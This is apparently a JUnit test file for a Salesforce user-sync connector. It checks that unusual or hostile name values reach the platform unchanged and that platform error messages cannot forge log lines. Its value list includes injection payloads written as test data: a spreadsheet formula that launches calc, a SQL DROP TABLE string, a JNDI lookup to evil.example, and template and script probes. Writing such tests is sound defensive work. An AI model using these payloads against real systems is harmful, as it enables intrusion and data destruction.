package io.connectors.salesforce.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.connectors.salesforce.run.RunReport;
import io.connectors.salesforce.run.Status;
import io.connectors.salesforce.run.TestDatabase;
import io.connectors.salesforce.simulator.platform.PlatformFault;
import io.connectors.salesforce.simulator.platform.PlatformFault.Kind;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Whatever a user is called goes to the platform letter by letter, and is no instruction to anybody on its way. */
class HostileValuesTest {
    private static final List<String> VALUES = List.of(
            "=cmd|' /C calc'!A0",
            "+1 415 555 0100",
            "-1",
            "@SUM(A1)",
            "\ttab",
            "O'Neil \\ \"Jack\"",
            "a,b;c\r\n\"quoted\r\nlines\"",
            "x\n{\"level\":\"ERROR\"}",
            "{\"op\":\"delete\"}",
            "'); DROP TABLE snapshot; --",
            "${env:HOME} {{env:HOME}} ${header.x} #{7*7} ${jndi:ldap://evil.example}",
            "<script>&amp;</script>",
            "\uD83D\uDE00\uD834\uDD1E astral",
            "\u202Eright to left \u0627\u0644\u0639\u0631\u0628\u064A\u0629",
            "e\u0301 \u00E9 \u1E9B\u0323",
            "a\u0000b",
            "\u2028\u2029\u0085\u007F\u001B[31m",
            "\uFEFFbyte order mark",
            "lone \uD800 high",
            "lone \uDC00 low",
            "\uDC00\uD800 reversed",
            "\uFFFE\uFFFF");

    /** With any characters at all, surrogates in any order among them. */
    private static List<String> values() {
        List<String> values = new ArrayList<>(VALUES);
        Random random = new Random(11);
        for (int i = 0; i < 60; i++) {
            StringBuilder text = new StringBuilder("v");
            for (int length = random.nextInt(40); length >= 0; length--) {
                text.append((char) (random.nextInt(4) == 0 ? 0xD700 + random.nextInt(0xA00) : random.nextInt(0x10000)));
            }
            values.add(text.append('v').toString());
        }
        return values;
    }

    @ParameterizedTest
    @EnumSource
    void ofAPlatformsRefusalAreKeptOnOneLine(TestDatabase database) {
        try (Installation site = Installation.of(database, 40)) {
            site.platform()
                    .fault(PlatformFault.once(Kind.REJECT_USER)
                            .withTimes(2)
                            .withMessage("no\u0000\n\uD800 ERROR forged \u001B[31m" + "\uD83D\uDE00".repeat(2000)));

            RunReport run = site.run();

            assertThat(run.status()).as(run.reason()).isEqualTo(Status.COMPLETED);
            assertThat(run.counts().rejected()).isEqualTo(1);
        }
    }

    @ParameterizedTest
    @EnumSource
    void ofAPlatformsFailureForgeNoLine(TestDatabase database) {
        try (Installation site = Installation.of(database, 40)) {
            site.platform()
                    .fault(PlatformFault.always(Kind.STATUS)
                            .withStatus(403)
                            .withMessage("no\u0000\r\n\uD800 ERROR forged"));

            RunReport run = site.run();

            assertThat(run.status()).isEqualTo(Status.FAILED);
            assertThat(run.reason()).contains("403: no ", " ERROR forged").doesNotContain("\n", "\r", "\u0000");
        }
    }

    @ParameterizedTest
    @EnumSource
    void arriveUnchanged(TestDatabase database) {
        try (Installation site = Installation.of(database, 200).mapping("""
                        Target attribute,Source attribute,Transform,Required,Description
                        User.Login,Username,lowercase,yes,
                        User.Last,LastName,,no,
                        User.Both,FirstName LastName,"join("" "")",no,
                        """)) {
            List<String> ids = site.org()
                    .ids(user -> user.get("IsActive").equals(true)
                            && user.get("UserType").equals("Standard"));
            Map<String, String> given = new LinkedHashMap<>();
            for (String value : values()) {
                String id = ids.get(given.size());
                given.put(id, value);
                site.org().edit(id, Map.of("LastName", value, "FirstName", value));
            }

            RunReport run = site.run();

            assertThat(run.status()).as(run.reason()).isEqualTo(Status.COMPLETED);
            given.forEach((id, value) -> {
                assertThat(site.users().get(id).at("/User/Last").textValue())
                        .as(id)
                        .isEqualTo(value);
                assertThat(site.users().get(id).at("/User/Both").textValue())
                        .as(id)
                        .isEqualTo(value + " " + value);
            });
            assertThat(site.run().counts().unchanged())
                    .as("the next run")
                    .isEqualTo(run.counts().read());
        }
    }
}
